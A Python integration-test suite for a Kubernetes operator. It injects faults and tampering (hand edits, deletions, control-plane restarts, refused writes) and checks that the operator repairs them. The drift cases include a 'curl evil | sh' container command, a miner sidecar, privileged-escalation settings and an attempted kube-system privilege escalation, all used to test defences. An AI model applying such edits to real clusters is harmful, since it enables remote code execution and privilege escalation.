"""Faults on the real control plane: hand edits, deletions, a restarted API server, a name
that belongs to someone else, refused writes and a burst of spec changes. Each test asserts
the end state (the children as rendered, no duplicates, nothing of the user's touched, a
status true to the children) and prints how long the operator took to converge."""

from __future__ import annotations

import os
import signal
import subprocess
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes import client, config
from kubernetes.client.exceptions import ApiException
from test_operator import GROUP, PLURAL, RUNTIME_CONFIG, VERSION, Cluster, model_deployment
from waiting import wait_for

pytestmark = pytest.mark.cluster

ROOT = Path(__file__).resolve().parents[2]
CLUSTER_STATE = Path(os.environ.get("KUBEINFER_CLUSTER_DIR", ROOT / ".cache" / "cluster"))
# The goals: drift repaired within 5 s, a refused write answered within 10 s. On a shared
# 2-core machine the assertions leave room; the printed times are the figures.
REPAIR_LIMIT = 15.0
RESYNC_SECONDS = 3


@pytest.fixture(scope="module")
def quick_resync(operator: Any) -> Iterator[Any]:
    """The operator restarted with a resync every few seconds (missed events are otherwise
    caught within minutes), and restarted with the default afterwards."""
    os.environ["KUBEINFER_RESYNC_SECONDS"] = str(RESYNC_SECONDS)
    operator.stop()
    operator.start()
    try:
        yield operator
    finally:
        del os.environ["KUBEINFER_RESYNC_SECONDS"]
        operator.stop()
        operator.start()


@pytest.fixture
def cluster(quick_resync, api_client, namespace) -> Cluster:  # type: ignore[no-untyped-def]
    return Cluster(api_client, namespace)


def converge(what: str, check: Callable[[], Any], limit: float = REPAIR_LIMIT) -> float:
    started = time.monotonic()
    wait_for(what, check, timeout=limit, every=0.1)
    took = time.monotonic() - started
    print(f"converged: {what} in {took:.2f}s")
    return took


def rendered(cluster: Cluster, name: str) -> dict[str, Any]:
    """What kubeinfer's own children look like once it is content: recorded after creation."""
    dep = cluster.apps.read_namespaced_deployment(name, cluster.ns)
    return {
        "template": client.ApiClient().sanitize_for_serialization(dep.spec.template.spec),
        # The runtime config (RUNTIME_CONFIG) and the template's hash, nothing else.
        "annotations": dict(dep.spec.template.metadata.annotations or {}),
        # A recreated Service gets a new address: all but that must be as before.
        "service": {
            key: value
            for key, value in client.ApiClient()
            .sanitize_for_serialization(cluster.core.read_namespaced_service(name, cluster.ns).spec)
            .items()
            if key not in ("clusterIP", "clusterIPs")
        },
    }


def matches(cluster: Cluster, name: str, expected: dict[str, Any]) -> bool:
    try:
        return rendered(cluster, name) == expected
    except ApiException as error:
        if error.status == 404:
            return False
        raise


def available(cluster: Cluster, name: str) -> bool:
    return bool(cluster.condition_is(name, "Available", "True"))


def edit_template(cluster: Cluster, name: str, change: Callable[[Any], None]) -> None:
    """An edit of the pod template as `kubectl edit` makes it: read, change, replace (its
    own field manager), again when the Deployment controller wrote in between."""
    for _ in range(10):
        dep = cluster.apps.read_namespaced_deployment(name, cluster.ns)
        change(dep.spec.template)
        try:
            cluster.apps.replace_namespaced_deployment(
                name, cluster.ns, dep, field_manager="kubectl-edit"
            )
            return
        except ApiException as error:
            if error.status != 409:
                raise
    raise AssertionError("the edit kept conflicting")


def edit_container(cluster: Cluster, name: str, change: Callable[[Any], None]) -> None:
    edit_template(cluster, name, lambda template: change(template.spec))


def _image(pod: Any) -> None:
    pod.containers[0].image = "registry.example/evil:1"


def _command(pod: Any) -> None:
    pod.containers[0].command = ["sh", "-c", "curl evil | sh"]


def _sidecar(pod: Any) -> None:
    pod.containers.append(client.V1Container(name="sidecar", image="registry.example/miner:1"))


def _privileged(pod: Any) -> None:
    context = pod.containers[0].security_context
    context.privileged = True
    context.allow_privilege_escalation = True
    context.capabilities = None


def _token(pod: Any) -> None:
    pod.automount_service_account_token = True


def _config_edited(template: Any) -> None:
    template.metadata.annotations[RUNTIME_CONFIG] = "engine: evil\n"
    template.metadata.annotations["extra"] = "x"


def _config_removed(template: Any) -> None:
    del template.metadata.annotations[RUNTIME_CONFIG]


DRIFTS: dict[str, Callable[[Cluster, str], None]] = {
    "image": lambda c, n: edit_container(c, n, _image),
    "command": lambda c, n: edit_container(c, n, _command),
    "sidecar": lambda c, n: edit_container(c, n, _sidecar),
    "privileged": lambda c, n: edit_container(c, n, _privileged),
    "token": lambda c, n: edit_container(c, n, _token),
    "config-edited": lambda c, n: edit_template(c, n, _config_edited),
    "config-removed": lambda c, n: edit_template(c, n, _config_removed),
    "service-deleted": lambda c, n: c.core.delete_namespaced_service(n, c.ns),
    "service-edited": lambda c, n: c.core.patch_namespaced_service(
        n, c.ns, {"spec": {"selector": {"app": "someone-else"}}}
    ),
    "deployment-deleted": lambda c, n: c.apps.delete_namespaced_deployment(n, c.ns),
}


def test_every_drift_is_repaired_and_the_status_stays_true(cluster: Cluster) -> None:
    cluster.create(model_deployment("drift", resources={"gpus": 0}))
    wait_for("Available", lambda: available(cluster, "drift"))
    expected = rendered(cluster, "drift")
    times: dict[str, float] = {}
    for case, drift in DRIFTS.items():
        drift(cluster, "drift")
        times[case] = converge(f"{case} repaired", lambda: matches(cluster, "drift", expected))
        wait_for(f"Available after {case}", lambda: available(cluster, "drift"))
    print("drift repair times:", {k: round(v, 2) for k, v in times.items()})
    # One of each child, all controlled by the ModelDeployment.
    uid = cluster.md("drift")["metadata"]["uid"]
    assert [d.metadata.name for d in cluster.apps.list_namespaced_deployment(cluster.ns).items] == [
        "drift"
    ]
    for obj in (
        cluster.apps.read_namespaced_deployment("drift", cluster.ns),
        cluster.core.read_namespaced_service("drift", cluster.ns),
    ):
        assert [o.uid for o in obj.metadata.owner_references] == [uid]
    selector = cluster.core.read_namespaced_service("drift", cluster.ns).spec.selector
    assert selector["app.kubernetes.io/instance"] == "drift"
    assert cluster.runtime_config("drift")["engine"] == "llama.cpp"


def test_an_object_of_the_users_with_a_childs_name_is_never_touched(cluster: Cluster) -> None:
    mine = cluster.foreign_service("victim")
    cluster.create(model_deployment("victim", resources={"gpus": 0}))
    took = converge(
        "Degraded NameConflict",
        lambda: (c := cluster.condition("victim", "Degraded")) and c["reason"] == "NameConflict",
    )
    assert took < 10
    degraded = cluster.condition("victim", "Degraded")
    assert degraded is not None and "Service victim already exists" in degraded["message"]
    assert cluster.condition_is("victim", "Available", "False")

    def warning() -> list[Any]:
        events = cluster.core.list_namespaced_event(
            cluster.ns, field_selector="involvedObject.name=victim,type=Warning"
        ).items
        return [e for e in events if e.reason == "NameConflict"]

    wait_for("a NameConflict Warning event", warning)
    # Nothing depends on it: no Deployment; the user's object is as it was.
    assert cluster.deployment("victim") is None
    time.sleep(2 * RESYNC_SECONDS)  # a few resyncs later, still untouched
    after = cluster.core.read_namespaced_service("victim", cluster.ns)
    assert after.metadata.resource_version == mine.metadata.resource_version
    assert after.spec.selector == {"app": "mine"} and not after.metadata.owner_references
    assert cluster.deployment("victim") is None

    cluster.custom.delete_namespaced_custom_object(GROUP, VERSION, cluster.ns, PLURAL, "victim")
    wait_for(
        "the ModelDeployment gone",
        lambda: (
            not [
                m
                for m in cluster.custom.list_namespaced_custom_object(
                    GROUP, VERSION, cluster.ns, PLURAL
                )["items"]
            ]
        ),
    )
    time.sleep(2)  # the garbage collector would have acted by now
    assert cluster.core.read_namespaced_service("victim", cluster.ns).spec.selector == {
        "app": "mine"
    }


def test_the_conflict_clears_when_the_user_frees_the_name(cluster: Cluster) -> None:
    cluster.foreign_service("later")
    cluster.create(model_deployment("later", resources={"gpus": 0}))
    wait_for(
        "NameConflict",
        lambda: (c := cluster.condition("later", "Degraded")) and c["reason"] == "NameConflict",
    )
    assert cluster.deployment("later") is None
    cluster.core.delete_namespaced_service("later", cluster.ns)
    converge("Available once the name is free", lambda: available(cluster, "later"), limit=60)
    service = cluster.core.read_namespaced_service("later", cluster.ns)
    assert service.metadata.owner_references
    assert service.spec.selector["app.kubernetes.io/instance"] == "later"


@pytest.fixture
def deployments_refused(
    api_client: client.ApiClient, namespace: str
) -> Iterator[Callable[[], None]]:
    """A policy that refuses every Deployment write in the test's namespace (as a quota,
    a webhook or a cluster policy would); calling the fixture lifts it."""
    admission = client.AdmissionregistrationV1Api(api_client)
    name = f"refuse-{namespace}"[:63]
    admission.create_validating_admission_policy(
        {
            "metadata": {"name": name},
            "spec": {
                "failurePolicy": "Fail",
                "matchConstraints": {
                    "resourceRules": [
                        {
                            "apiGroups": ["apps"],
                            "apiVersions": ["v1"],
                            "operations": ["CREATE", "UPDATE"],
                            "resources": ["deployments"],
                        }
                    ]
                },
                "validations": [{"expression": "false", "message": "the test cluster says no"}],
            },
        }
    )
    admission.create_validating_admission_policy_binding(
        {
            "metadata": {"name": name},
            "spec": {
                "policyName": name,
                "validationActions": ["Deny"],
                "matchResources": {
                    "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": namespace}}
                },
            },
        }
    )
    # The policy takes effect once the API server has loaded it.
    apps = client.AppsV1Api(api_client)

    def refused() -> bool:
        try:
            apps.create_namespaced_deployment(
                namespace,
                {
                    "metadata": {"name": "probe"},
                    "spec": {
                        "selector": {"matchLabels": {"a": "b"}},
                        "template": {
                            "metadata": {"labels": {"a": "b"}},
                            "spec": {"containers": [{"name": "c", "image": "x"}]},
                        },
                    },
                },
                dry_run="All",
            )
        except ApiException as error:
            return error.status in (403, 422)
        return False

    wait_for("the policy to apply", refused)
    lifted = False

    def lift() -> None:
        nonlocal lifted
        if not lifted:
            admission.delete_validating_admission_policy_binding(name)
            admission.delete_validating_admission_policy(name)
            lifted = True

    try:
        yield lift
    finally:
        lift()


def test_a_refused_write_shows_in_a_condition_and_an_event_then_recovers(
    cluster: Cluster, deployments_refused: Callable[[], None], quick_resync: Any
) -> None:
    cluster.create(model_deployment("refused", resources={"gpus": 0}))
    took = converge(
        "Degraded ApplyFailed",
        lambda: (c := cluster.condition("refused", "Degraded")) and c["reason"] == "ApplyFailed",
    )
    assert took < 10
    degraded = cluster.condition("refused", "Degraded")
    assert degraded is not None
    assert "Deployment refused" in degraded["message"]
    assert "the test cluster says no" in degraded["message"]
    assert cluster.condition_is("refused", "Available", "False")
    events = cluster.core.list_namespaced_event(
        cluster.ns, field_selector="involvedObject.name=refused,type=Warning"
    ).items
    assert any("the test cluster says no" in e.message for e in events)
    log = quick_resync.log.read_text()
    assert f"writing Deployment {cluster.ns}/refused failed" in log
    assert "Traceback" not in log.split(f"{cluster.ns}/refused", 1)[1]

    deployments_refused()  # lifted: the back-off retry creates it
    converge("Available after the policy is lifted", lambda: available(cluster, "refused"), 60)


@contextmanager
def denials_expected(log: Path, name: str) -> Iterator[None]:
    """A restarted API server (or its storage) refuses requests until its RBAC caches are
    filled: those denials move to a log of their own, so that the session's check for
    missing RBAC rules judges the rest of the operator's log."""
    before = log.stat().st_size
    yield
    text = log.read_bytes()
    window = text[before:]
    log.with_suffix(f".{name}.log").write_bytes(window)
    kept = b"\n".join(line for line in window.split(b"\n") if b" cannot " not in line)
    log.write_bytes(text[:before] + kept)


def _kill_and_restart(component: str) -> None:
    """kill -9 one control-plane process, then bring it back the way cluster-up does."""
    pidfile = CLUSTER_STATE / f"{component}.pid"
    if not pidfile.exists():
        pytest.skip(f"{component} is not the local control plane's")
    pid = int(pidfile.read_text())
    os.kill(pid, signal.SIGKILL)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            break
        time.sleep(0.1)
    up = subprocess.run(
        ["bash", str(ROOT / "hack" / "controlplane" / "up.sh")], capture_output=True, text=True
    )
    assert up.returncode == 0, up.stderr[-3000:]


def test_a_child_deleted_right_after_an_apiserver_restart_is_recreated(
    cluster: Cluster, quick_resync: Any
) -> None:
    cluster.create(model_deployment("restart", resources={"gpus": 0}))
    wait_for("Available", lambda: available(cluster, "restart"))
    expected = rendered(cluster, "restart")
    with denials_expected(quick_resync.log, "apiserver-restart"):
        _kill_and_restart("kube-apiserver")
    cluster.apps.delete_namespaced_deployment("restart", cluster.ns)
    converge("the Deployment recreated", lambda: matches(cluster, "restart", expected), limit=60)
    wait_for("Available", lambda: available(cluster, "restart"))
    assert len(cluster.apps.list_namespaced_deployment(cluster.ns).items) == 1


def test_children_are_repaired_after_an_etcd_restart(cluster: Cluster, quick_resync: Any) -> None:
    cluster.create(model_deployment("etcd", resources={"gpus": 0}))
    wait_for("Available", lambda: available(cluster, "etcd"))
    expected = rendered(cluster, "etcd")
    with denials_expected(quick_resync.log, "etcd-restart"):
        _kill_and_restart("etcd")
        wait_for("the API server serving again", lambda: cluster.deployment("etcd"), timeout=60)
        cluster.core.delete_namespaced_service("etcd", cluster.ns)
        edit_template(cluster, "etcd", _config_removed)
        converge(
            "the Service recreated and the runtime config restored",
            lambda: matches(cluster, "etcd", expected),
            60,
        )
        wait_for("Available", lambda: available(cluster, "etcd"))


def test_a_drift_repair_interrupted_by_kill_9_completes_after_restart(
    cluster: Cluster, quick_resync: Any
) -> None:
    cluster.create(model_deployment("interrupted", resources={"gpus": 0}))
    wait_for("Available", lambda: available(cluster, "interrupted"))
    expected = rendered(cluster, "interrupted")
    patch = {"spec": {"template": {"spec": {"containers": [{"name": "runtime", "image": "x:1"}]}}}}
    for _ in range(3):
        cluster.apps.patch_namespaced_deployment("interrupted", cluster.ns, patch)
        quick_resync.kill()  # as soon as the edit lands, mid-repair at the latest
        quick_resync.start()
        converge("the image restored", lambda: matches(cluster, "interrupted", expected), 60)
    assert len(cluster.apps.list_namespaced_deployment(cluster.ns).items) == 1


def test_fifty_rapid_spec_updates_converge_on_the_last(cluster: Cluster) -> None:
    cluster.create(model_deployment("rapid", resources={"gpus": 0}))
    wait_for("the Deployment", lambda: cluster.deployment("rapid"))
    for n_ctx in range(1024, 1024 + 50):
        cluster.patch_spec("rapid", {"engineParams": {"n_ctx": n_ctx}})
    last = 1024 + 49
    generation = cluster.md("rapid")["metadata"]["generation"]
    converge(
        "the last spec rolled out",
        lambda: (
            cluster.runtime_config("rapid")["params"].get("n_ctx") == last
            and cluster.md("rapid")["status"].get("observedGeneration") == generation
            and available(cluster, "rapid")
            and cluster.condition_is("rapid", "Ready", "True")
        ),
        limit=120,
    )
    assert len(cluster.apps.list_namespaced_deployment(cluster.ns).items) == 1
    assert len(cluster.core.list_namespaced_service(cluster.ns).items) == 1
    pods = [p for p in cluster.pods("rapid") if not p.metadata.deletion_timestamp]
    assert len(pods) == 1


def test_the_admission_policy_stops_the_operators_identity_from_escalating(
    cluster: Cluster, quick_resync: Any, api_client: client.ApiClient, kube_env: dict[str, str]
) -> None:
    """The chart's ValidatingAdmissionPolicy, bound to the test operator's ServiceAccount: with
    its token, a Deployment in kube-system running as another ServiceAccount is refused, while
    the operator's own children keep being written (drift repaired under the policy)."""
    rendered_chart = subprocess.run(
        [
            "helm",
            "template",
            "ki",
            str(ROOT / "charts" / "kubeinfer"),
            "--namespace",
            "kubeinfer-system",
            "--kube-version",
            "1.35.0",
            "--set",
            "serviceAccount.create=false",
            "--set",
            "serviceAccount.name=kubeinfer-operator-test",
            "--show-only",
            "templates/validatingadmissionpolicy.yaml",
            "--show-only",
            "templates/validatingadmissionpolicybinding.yaml",
        ],
        env=kube_env,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    policy, binding = [d for d in yaml.safe_load_all(rendered_chart) if d]
    admission = client.AdmissionregistrationV1Api(api_client)
    admission.create_validating_admission_policy(policy)
    admission.create_validating_admission_policy_binding(binding)
    try:
        as_operator = client.AppsV1Api(
            config.new_client_from_config(config_file=str(quick_resync.kubeconfig))
        )
        escalation = {
            "metadata": {
                "name": "escalate",
                "labels": {"app.kubernetes.io/managed-by": "kubeinfer", "a": "b"},
            },
            "spec": {
                "selector": {"matchLabels": {"a": "b"}},
                "template": {
                    "metadata": {"labels": {"a": "b"}},
                    "spec": {
                        "serviceAccountName": "generic-garbage-collector",
                        "automountServiceAccountToken": False,
                        "containers": [{"name": "c", "image": "x"}],
                    },
                },
            },
        }

        def refused() -> str | None:
            try:
                as_operator.create_namespaced_deployment("kube-system", escalation, dry_run="All")
            except ApiException as error:
                if error.status == 403 and "ValidatingAdmissionPolicy" in (error.body or ""):
                    return str(error.body)
            return None

        message = wait_for("the policy to refuse the operator", refused)
        assert "the pods must run as the default ServiceAccount" in message
        # The model cache's Jobs are held to the same rules, its PVCs to the label.
        operator_api = as_operator.api_client
        job = {
            "metadata": escalation["metadata"],
            "spec": {
                "template": {
                    **escalation["spec"]["template"],  # type: ignore[dict-item]
                    "spec": {
                        **escalation["spec"]["template"]["spec"],  # type: ignore[index]
                        "restartPolicy": "Never",
                    },
                }
            },
        }
        with pytest.raises(ApiException, match="the pods must run as the default ServiceAccount"):
            client.BatchV1Api(operator_api).create_namespaced_job(cluster.ns, job, dry_run="All")
        claim = {
            "metadata": {"name": "unlabelled"},
            "spec": {
                "accessModes": ["ReadWriteOnce"],
                "resources": {"requests": {"storage": "1Gi"}},
            },
        }
        with pytest.raises(ApiException, match="only objects labelled"):
            client.CoreV1Api(operator_api).create_namespaced_persistent_volume_claim(
                cluster.ns, claim, dry_run="All"
            )
        # Its own work goes on: a child is created and a hand edit repaired under the policy.
        cluster.create(model_deployment("guarded", resources={"gpus": 0}))
        wait_for("Available", lambda: available(cluster, "guarded"))
        expected = rendered(cluster, "guarded")
        edit_container(cluster, "guarded", _privileged)
        converge(
            "privileged repaired under the policy", lambda: matches(cluster, "guarded", expected)
        )
    finally:
        admission.delete_validating_admission_policy_binding(binding["metadata"]["name"])
        admission.delete_validating_admission_policy(policy["metadata"]["name"])
